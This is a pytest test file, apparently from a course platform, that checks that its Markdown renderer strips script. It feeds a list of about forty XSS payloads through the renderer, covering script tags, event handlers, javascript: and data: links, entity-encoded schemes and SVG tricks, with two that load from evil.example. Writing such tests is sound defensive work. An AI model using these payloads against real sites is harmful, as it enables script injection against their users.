"""Course Markdown cannot inject script: a corpus of XSS payloads through the one renderer.

Each payload is rendered as a lesson body (and as a self-check explanation); the HTML that comes
out is parsed, and must contain no script, no element that can run or embed code, no event handler,
no style, and no link or image to a javascript:, vbscript: or data: address.
"""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from app.content.render import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, render

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<body onload="alert(1)">',
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#x09;script:alert(1))",
    "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click]( javascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](/media/x.png)',
    '[x](/safe "title" onmouseover="alert(1)")',
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<object data="javascript:alert(1)"></object>',
    "<embed src=javascript:alert(1)>",
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>@import 'http://evil.example/x.css';</style>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<!--<img src=x onerror=alert(1)>-->",
    "<<img src=x onerror=alert(1)//>>",
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    "<details open ontoggle=alert(1)>",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "<base href=javascript:alert(1)//>",
    '<a href="/x" target="_blank" formaction="javascript:alert(1)">x</a>',
    '[x](https://example.org/"onmouseover="alert(1))',
]

FORBIDDEN_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:")


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))

    handle_startendtag = handle_starttag


def problems(output: str) -> list[str]:
    collector = _Collector()
    collector.feed(output)
    found = []
    for tag, attrs in collector.elements:
        if tag not in ALLOWED_TAGS:
            found.append(f"element <{tag}>")
        for name, value in attrs:
            # (no allowlist entry holds an event handler or style)
            if name not in ALLOWED_ATTRIBUTES.get(tag, []) and name != "id":
                found.append(f"attribute {name} on <{tag}>")
            # The parser decodes entities once, as a browser does; browsers drop blanks in schemes.
            address = "".join((value or "").split()).lower()
            if name in ("href", "src") and address.startswith(FORBIDDEN_SCHEMES):
                found.append(f"{name}={value!r} on <{tag}>")
    return found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_lesson_body_cannot_inject_script(payload):
    rendered = render(f"Text before.\n\n{payload}\n\nText after.\n")
    assert problems(rendered.html) == [], rendered.html
    assert "Text after." in rendered.html


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_self_check_explanation_cannot_inject_script(payload):
    body = (
        "```check\n"
        "question: Was ist sicher?\n"
        "- [x] Das hier\n"
        "- [ ] Das nicht\n"
        f"explanation: {payload}\n"
        "```\n"
    )
    rendered = render(body)
    for check in rendered.checks:
        assert problems(check["explanation_html"]) == [], check["explanation_html"]
    assert problems(rendered.html) == []


def test_the_checker_of_the_corpus_does_catch_script():
    assert problems(
        '<script>x</script><a href=" jav&#x61;script:x" onclick="y">a</a><p style="x">p</p>'
    ) == [
        "element <script>",
        "href=' javascript:x' on <a>",
        "attribute onclick on <a>",
        "attribute style on <p>",
    ]
